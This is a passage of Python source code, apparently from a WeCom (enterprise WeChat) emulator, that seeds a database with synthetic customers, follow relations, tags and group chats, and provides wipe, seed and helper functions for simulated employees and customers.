    def write_customers(self, cur) -> None:  # noqa: C901 - one pass writing customers, relations and tags together for speed (millions of rows)
        rng = self.rng
        now = self.now
        n = self.n
        contact_emps = [e for e in self.emps if e.contact and e.weight > 0]
        emp_cum = list(itertools.accumulate(e.weight for e in contact_emps))
        by_store: dict[int | None, list[Emp]] = {}
        for e in contact_emps:
            by_store.setdefault(e.store, []).append(e)
        hq_service = [e for e in contact_emps if e.role in ("cs", "cs_lead", "ops", "community")] or contact_emps
        all_userids = [e.userid for e in contact_emps]
        levels = self.tag_ids["客户等级"]
        interests = self.tag_ids["兴趣偏好"]
        lifecycle = self.tag_ids["生命周期"]
        spend = self.tag_ids["消费能力"]
        level_cum = list(itertools.accumulate(LEVEL_W))
        hostile = {pos: HOSTILE_NICKNAMES[k] for k, pos in enumerate(hostile_positions(n))}

        c_ins = _Inserter(
            cur,
            ExternalContact,
            [
                "external_userid",
                "name",
                "avatar",
                "type",
                "gender",
                "unionid",
                "position",
                "corp_name",
                "corp_full_name",
                "mobile",
            ],
        )
        f_ins = _Inserter(
            cur,
            Follow,
            [
                "userid",
                "external_userid",
                "remark",
                "description",
                "createtime",
                "remark_corp_name",
                "remark_mobiles",
                "oper_userid",
                "add_way",
                "state",
                "tag_ids",
                "personal_tags",
                "status",
                "status_time",
                "chatted",
            ],
        )
        # kept for group generation: per store, the customers its staff serve
        self.ext_ids: list[str] = []
        self.ext_names: list[str] = []
        self.ext_unionids: list[str] = []
        self.pool: dict[int | None, list[int]] = {}
        self.follow_count = {
            "active": 0,
            "lost": 0,
            "multi": 0,
            "type2": 0,
            "customers_active": 0,
            "customers_listed": 0,
            "by_customer": 0,
            "by_user": 0,
        }
        rand = rng.random
        randrange = rng.randrange
        span = 730 * DAY
        for start in range(0, n, CHUNK):
            size = min(CHUNK, n - start)
            primaries = rng.choices(range(len(contact_emps)), cum_weights=emp_cum, k=size)
            crows, frows = [], []
            for j in range(size):
                i = start + j
                type_ = 2 if rand() < 0.03 else 1
                r = rand()
                gender = 2 if r < 0.58 else (1 if r < 0.9 else 0)
                if i in hostile:
                    name = hostile[i]
                elif type_ == 2:
                    name = _person(rng, gender or None)[0]
                else:
                    name = random_nickname(rng, gender)
                ext = self.ext_id(type_)
                if i in hostile:
                    self.hostile_ids.append(ext)
                mobile = _mobile(rng)
                if type_ == 1:
                    unionid = "o" + self.union_stem + _token(rng, 22)
                    avatar = "" if rand() < 0.03 else _customer_avatar(rng)
                    crows.append((ext, name, avatar, 1, gender, unionid, "", "", "", mobile))
                else:
                    unionid = ""
                    corp, corp_full = rng.choice(CORP_NAMES)
                    crows.append(
                        (
                            ext,
                            name,
                            f"http://p.qlogo.cn/bizmail/{_token(rng, 40)}/0",
                            2,
                            gender,
                            "",
                            rng.choice(CORP_POSITIONS),
                            corp,
                            corp_full,
                            mobile,
                        )
                    )
                    self.follow_count["type2"] += 1
                self.ext_ids.append(ext)
                self.ext_names.append(name)
                self.ext_unionids.append(unionid)

                primary = contact_emps[primaries[j]]
                followers = [primary]
                if rand() < 0.08:
                    if rand() < 0.6 and len(by_store.get(primary.store, ())) > 1 and primary.store is not None:
                        mates = by_store[primary.store]
                        second = mates[randrange(len(mates))]
                    else:
                        second = hq_service[randrange(len(hq_service))]
                    if second.userid != primary.userid:
                        followers.append(second)
                        self.follow_count["multi"] += 1
                self.pool.setdefault(primary.store, []).append(i)

                age = int(span * rand() ** 1.6) + 60
                createtime = now - age
                lost = rand() < 0.05
                lost_status = 0
                if lost:
                    lost_status = Follow.DELETED_BY_CUSTOMER if rand() < 0.6 else Follow.DELETED_BY_USER
                if not lost or len(followers) > 1:
                    self.follow_count["customers_active"] += 1
                if lost_status != Follow.DELETED_BY_USER or len(followers) > 1:
                    # the employee still lists a customer who deleted them (del_follow_user is one-way)
                    self.follow_count["customers_listed"] += 1
                for k, emp in enumerate(followers):
                    ct = createtime if k == 0 else createtime + int((now - createtime) * rand())
                    aw = ADD_WAYS[bisect.bisect_right(_ADD_WAY_W, rand() * _ADD_WAY_W[-1])]
                    state = ""
                    source_tag = None
                    if aw == 1 and rand() < 0.45:
                        state, source_name = STATES[randrange(len(STATES))]
                        if rand() < 0.7:
                            source_tag = self.tag_by_name[source_name]
                        if self.demo:
                            # the demo's channel history: store codes per store, adds over six months
                            # (rescaled from the two-year spread, so recent months carry more adds)
                            state = self._demo_state(state, emp)
                            ct = now - 60 - int((now - 60 - ct) * HISTORY_DAYS / 730)
                    elif aw == 3 and rand() < 0.3:
                        source_tag = self.tag_by_name["朋友推荐"]
                    elif aw == 4 and rand() < 0.2:
                        source_tag = self.tag_by_name["直播间"]
                    # oper_userid: the employee when they added, the customer when the customer added
                    # (scan, card, group), the sharing colleague or admin for 201/202 (doc 92114).
                    if aw in (1, 3, 4, 7):
                        oper = ext
                    elif aw in (201, 202):
                        oper = all_userids[randrange(len(all_userids))]
                    else:
                        oper = emp.userid
                    tags: list[str] = []
                    lvl = None
                    if rand() < 0.55:
                        lvl = bisect.bisect_right(level_cum, rand() * level_cum[-1])
                        tags.append(levels[lvl])
                    if source_tag:
                        tags.append(source_tag)
                    x = rand()
                    if x < 0.4:
                        tags.append(interests[randrange(len(interests))])
                        if x < 0.12:
                            t2 = interests[randrange(len(interests))]
                            if t2 not in tags:
                                tags.append(t2)
                    if rand() < 0.3:
                        tags.append(lifecycle[randrange(len(lifecycle))])
                    if rand() < 0.12:
                        tags.append(spend[randrange(len(spend))])
                    del tags[4:]
                    remark = ""
                    if rand() < 0.5:
                        remark = self._remark(lvl, gender, name if type_ == 2 else None)
                    remark_mobiles = "[]"
                    rm = rand()
                    if rm < 0.2:
                        remark_mobiles = _j([mobile] if rm < 0.17 else [mobile, _mobile(rng)])
                    description = DESCRIPTIONS[randrange(len(DESCRIPTIONS))] if rand() < 0.05 else ""
                    personal = "[]"
                    if rand() < 0.03:
                        personal = _j([{"group_name": "", "tag_name": PERSONAL_TAGS[randrange(len(PERSONAL_TAGS))]}])
                    remark_corp = ""
                    if type_ == 2 and rand() < 0.5:
                        remark_corp = crows[-1][7]
                    status, status_time = Follow.ACTIVE, None
                    if lost and k == 0:
                        status = lost_status
                        status_time = ct + int((now - ct) * rand()) + 1
                        self.follow_count["lost"] += 1
                        self.follow_count["by_customer" if status == Follow.DELETED_BY_CUSTOMER else "by_user"] += 1
                    else:
                        self.follow_count["active"] += 1
                    frows.append(
                        (
                            emp.userid,
                            ext,
                            remark,
                            description,
                            ct,
                            remark_corp,
                            remark_mobiles,
                            oper,
                            aw,
                            state,
                            _j(tags),
                            personal,
                            status,
                            status_time,
                            rand() < 0.8,
                        )
                    )
                    if k == 1 and emp.store is not None and emp.store != primary.store:
                        self.pool.setdefault(emp.store, []).append(i)
            c_ins.write(crows)
            f_ins.write(frows)
        self.stats["customers"] = c_ins.count
        self.stats["customers_active"] = self.follow_count["customers_active"]  # with ≥ 1 active follow
        self.stats["follows"] = f_ins.count
        self.stats["follows_active"] = self.follow_count["active"]
        self.stats["follows_lost"] = self.follow_count["lost"]
        self.stats["follows_deleted_by_customer"] = self.follow_count["by_customer"]
        self.stats["follows_deleted_by_user"] = self.follow_count["by_user"]
        # customers with an ACTIVE or DELETED_BY_CUSTOMER relation: what employees still list
        self.stats["customers_listed"] = self.follow_count["customers_listed"]
        self.stats["customers_multi_followed"] = self.follow_count["multi"]
        self.stats["customers_wecom"] = self.follow_count["type2"]

    def _demo_state(self, state: str, emp: Emp) -> str:
        if state in DEMO_STORE_STATES:
            return f"ch_store_{emp.store}" if emp.store is not None else "ch_pkgcard_01"
        return state if state in DEMO_CHANNELS else "ch_referral_01"

    def demo_channels(self) -> list[dict[str, Any]]:
        """The demo's channel plan, kept in ``SimState("demo_channels")`` for ``demo/history``."""
        out = [
            {
                "state": f"ch_store_{sid}",
                "name": f"门店海报·{self.store_names[sid]}",
                "folder": "门店海报",
                "kind": "store",
                "department_id": sid,
            }
            for sid in self.stores
        ]
        out += [
            {"state": st, "name": name, "folder": folder, "kind": "channel", "department_id": None}
            for st, (name, folder) in DEMO_CHANNELS.items()
        ]
        return out

    def _remark(self, lvl: int | None, gender: int, real_name: str | None) -> str:
        rng = self.rng
        if real_name:
            return f"{real_name}-{rng.choice(CORP_POSITIONS)}"
        sur = rng.choices(SURNAMES, cum_weights=_SURNAME_W)[0][0]
        hon = rng.choice(HONORIFICS_F if gender != 1 else HONORIFICS_M)
        form = rng.random()
        if lvl is not None and form < 0.5:
            return f"{sur}{hon}-{LEVEL_SHORT[lvl]}"
        if form < 0.7:
            return f"{sur}{hon}"
        if form < 0.85:
            return f"{sur}{hon} {rng.randrange(1, 13)}月生日"
        return f"{sur}{hon}({rng.choice(('老客', '新客', '闺蜜介绍', '婚嫁', '送礼'))})"

    # groups -------------------------------------------------------------------------------------------
    def write_groups(self, cur) -> None:  # noqa: C901 - one pass writing groups and members together for speed
        rng = self.rng
        now = self.now
        n = len(self.ext_ids)
        owners = [e for e in self.emps if e.store is not None and e.contact]
        if not owners or not n:
            self.stats["groups"] = 0
            self.stats["group_members"] = 0
            return
        if self.demo:
            n_groups, lo, hi = 60, 20, 300
        else:
            n_groups, lo, hi = min(20000, self.n // 100), 10, 120
        by_store: dict[int, list[Emp]] = {}
        for e in owners:
            by_store.setdefault(e.store, []).append(e)
        hq_cs = [e for e in self.emps if e.role in ("cs", "cs_lead", "community") and e.contact]
        g_ins = _Inserter(
            cur,
            GroupChat,
            [
                "chat_id",
                "name",
                "owner",
                "create_time",
                "notice",
                "admin_list",
                "status",
                "dismissed",
                "member_version",
                "transfer_times",
            ],
        )
        m_ins = _Inserter(
            cur,
            GroupMember,
            [
                "chat_id",
                "userid",
                "type",
                "unionid",
                "join_time",
                "join_scene",
                "invitor",
                "group_nickname",
                "name",
                "state",
            ],
        )
        theme_count: dict[tuple[int, str], int] = {}
        grows, mrows = [], []
        stores = self.stores
        for g in range(n_groups):
            store = stores[g % len(stores)]
            staff = by_store.get(store) or owners
            # store managers own more groups than guides
            owner = staff[0] if (rng.random() < 0.4 or len(staff) == 1) else staff[1 + rng.randrange(len(staff) - 1)]
            theme = GROUP_THEMES[0] if rng.random() < 0.55 else rng.choice(GROUP_THEMES[1:])
            key = (store, theme)
            theme_count[key] = theme_count.get(key, 0) + 1
            short = self.store_names[store]
            name = f"{short}·{theme}{theme_count[key]}"
            if g % 29 == 28:
                name = ""  # an unnamed group: clients show member names instead
            chat_id = "wr" + self.stem + _token(rng, 22)
            created = now - int(700 * DAY * rng.random() ** 1.3) - DAY
            notice = rng.choice(NOTICES).format(brand=BRAND, store=short)
            members: dict[str, tuple] = {}
            members[owner.userid] = (
                chat_id,
                owner.userid,
                GroupMember.EMPLOYEE,
                "",
                created,
                1,
                "",
                "",
                owner.name,
                "",
            )
            colleagues = [e for e in staff if e.userid != owner.userid]
            rng.shuffle(colleagues)
            emp_members = colleagues[: rng.randrange(0, min(3, len(colleagues)) + 1)]
            if hq_cs and rng.random() < 0.3:
                emp_members.append(hq_cs[rng.randrange(len(hq_cs))])
            inside = [owner.userid]
            for e in emp_members:
                if e.userid in members:
                    continue
                jt = created + rng.randrange(0, 3 * DAY)
                members[e.userid] = (
                    chat_id,
                    e.userid,
                    GroupMember.EMPLOYEE,
                    "",
                    jt,
                    1,
                    owner.userid,
                    rng.choice(("", "", f"{short[:2]}-{e.position}", f"{e.position}{e.name[0]}")),
                    e.name,
                    "",
                )
                inside.append(e.userid)
            admins = [u for u in inside[1:] if rng.random() < 0.5][:2]
            size = int(lo + (hi - lo) * rng.random() ** 2)
            pool = self.pool.get(store) or []
            want = max(0, size - len(members))
            local = min(len(pool), int(want * 0.9))
            picks = rng.sample(pool, local) if local else []
            while len(picks) < want and len(picks) < n:
                picks.append(rng.randrange(n))
            for ci in picks:
                ext = self.ext_ids[ci]
                if ext in members:
                    continue
                jt = created + int((now - created) * rng.random() ** 1.5)
                scene = rng.choices((1, 2, 3), (50, 20, 30))[0]
                invitor = inside[rng.randrange(len(inside))] if scene in (1, 2) and rng.random() < 0.9 else ""
                state = ""
                if scene == 3 and rng.random() < 0.5:
                    state = f"jw_{rng.choice(('store', 'live', 'pkg'))}_{store:02d}"
                nick = ""
                if rng.random() < 0.15:
                    nick = rng.choice(
                        (
                            f"{self.ext_names[ci][:8]}-{short[:2]}",
                            f"VIP-{rng.choice(SURNAMES)[0]}",
                            rng.choice(SURNAMES)[0] + "姐",
                            rng.choice(ENGLISH),
                        )
                    )
                members[ext] = (
                    chat_id,
                    ext,
                    GroupMember.CUSTOMER,
                    self.ext_unionids[ci],
                    jt,
                    scene,
                    invitor,
                    nick,
                    self.ext_names[ci],
                    state,
                )
            mrows.extend(members.values())
            version = f"{rng.getrandbits(128):032x}"
            grows.append((chat_id, name, owner.userid, created, notice, _j(admins), 0, False, version, "[]"))
            if len(mrows) >= CHUNK:
                g_ins.write(grows)
                m_ins.write(mrows)
                grows, mrows = [], []
        g_ins.write(grows)
        m_ins.write(mrows)
        self.stats["groups"] = g_ins.count
        self.stats["group_members"] = m_ins.count


# --- public API --------------------------------------------------------------------------------------
# Models that are not part of the world and survive a reset: emulator state, tokens, the callback
# outbox and the API log (history a test may still want to read).
KEEP = {SimState, Token, Callback, ApiLog}
RESET_HOOKS: list[Callable[[], Any]] = []


def on_reset(fn: Callable[[], Any]) -> Callable[[], Any]:
    """Register ``fn()``, called after the world is wiped (for in-memory caches of other areas)."""
    RESET_HOOKS.append(fn)
    return fn


def is_seeded() -> bool:
    return Department.objects.exists()


def wipe() -> None:
    """Delete every world row (all emulator models except ``KEEP``)."""
    qn = connection.ops.quote_name
    with connection.cursor() as cur:
        existing = set(connection.introspection.table_names(cur))
        for model in apps.get_app_config("wecom_sim").get_models():
            if model in KEEP or model._meta.proxy or not model._meta.managed:
                continue
            if model._meta.db_table not in existing:  # a model whose migration is not generated yet
                continue
            cur.execute(f"DELETE FROM {qn(model._meta.db_table)}")
    for fn in RESET_HOOKS:
        transaction.on_commit(fn)


def seed(customers: int = 5000, seed: int = 1, demo: bool = True, reset: bool = True) -> dict:
    """Build the world; returns counts. Deterministic for a given (customers, seed, demo).

    ``reset`` first deletes every world row (``wipe``); without it the world tables must be empty.
    """
    t0 = time.monotonic()
    b = _Builder(customers, seed, demo)
    with transaction.atomic():
        if reset:
            wipe()
        with connection.cursor() as cur:
            if demo:
                b.build_demo_org()
            else:
                b.build_generic_org()
            b.write_org(cur)
            b.write_tags(cur)
            b.write_customers(cur)
            b.write_groups(cur)
        b.stats["seconds"] = round(time.monotonic() - t0, 2)
        if demo:
            SimState.objects.update_or_create(
                key="demo_channels", defaults={"value": {"plan": b.demo_channels(), "attributed": {}}}
            )
        SimState.objects.update_or_create(
            key="world",
            defaults={
                "value": {
                    "customers": customers,
                    "seed": seed,
                    "demo": demo,
                    "seeded_at": b.now,
                    "stem": b.stem,
                    "hostile": b.hostile_ids,
                    "stats": b.stats,
                }
            },
        )
    b.stats["seconds"] = round(time.monotonic() - t0, 2)
    logger.info("seeded world %s", b.stats)
    return dict(b.stats)


# --- helpers for other areas ---------------------------------------------------------------------------
def _stem() -> str:
    row = SimState.objects.filter(key="world").first()
    if row and row.value.get("stem"):
        return row.value["stem"]
    return _corp_stem(1)


def new_external_userid(type_: int = 1, rng: random.Random | None = None) -> str:
    rng = rng or random.Random(secrets.randbits(64))
    return ("wm" if type_ == 1 else "wo") + _stem() + _token(rng, 22)


def new_customer(rng: random.Random | None = None, **fields: Any) -> ExternalContact:
    """Create one WeChat user (type 1) who is nobody's customer yet; ``fields`` override any value.

    Used when a simulated person scans a contact-way QR code. With ``rng`` the person is
    reproducible; without, each call makes a new person.
    """
    rng = rng or random.Random(secrets.randbits(64))
    r = rng.random()
    gender = 2 if r < 0.58 else (1 if r < 0.9 else 0)
    values = {
        "external_userid": new_external_userid(1, rng),
        "name": random_nickname(rng, gender),
        "avatar": _customer_avatar(rng),
        "type": 1,
        "gender": gender,
        "unionid": "o" + union_stem() + _token(rng, 22),
        "mobile": _mobile(rng),
    }
    values.update(fields)
    return ExternalContact.objects.create(**values)


def pick_employees(
    n: int = 1,
    rng: random.Random | None = None,
    contact_only: bool = True,
    store_only: bool = False,
    exclude: Iterable[str] = (),
) -> list[str]:
    """``n`` distinct active employees' userids (with the customer-contact function by default)."""
    rng = rng or random.Random(secrets.randbits(64))
    qs = User.objects.filter(status=User.STATUS_ACTIVE)
    if contact_only:
        qs = qs.filter(contact_enabled=True)
    users = list(qs.order_by("userid").values_list("userid", "department"))
    if store_only:
        stores = set(store_department_ids())
        users = [u for u in users if stores.intersection(u[1])]
    skip = set(exclude)
    ids = [u for u, _ in users if u not in skip]
    return rng.sample(ids, min(n, len(ids)))


def store_department_ids() -> list[int]:
    """Departments without children below a region: the stores (leaves at depth 2)."""
    depts = list(Department.objects.values_list("id", "parentid"))
    parents = {d for _, d in depts}
    depth: dict[int, int] = {}
    by_id = dict(depts)

    def d_of(i: int) -> int:
        if i in depth:
            return depth[i]
        p = by_id.get(i, 0)
        depth[i] = 0 if p == 0 or p not in by_id else d_of(p) + 1
        return depth[i]

    return sorted(i for i, _ in depts if i not in parents and d_of(i) == 2)


def union_stem() -> str:
    return _union_stem(_stem())


__all__ = [
    "HOSTILE_NICKNAMES",
    "hostile_positions",
    "is_seeded",
    "new_customer",
    "new_external_userid",
    "on_reset",
    "pick_employees",
    "random_nickname",
    "seed",
    "store_department_ids",
    "wipe",
]
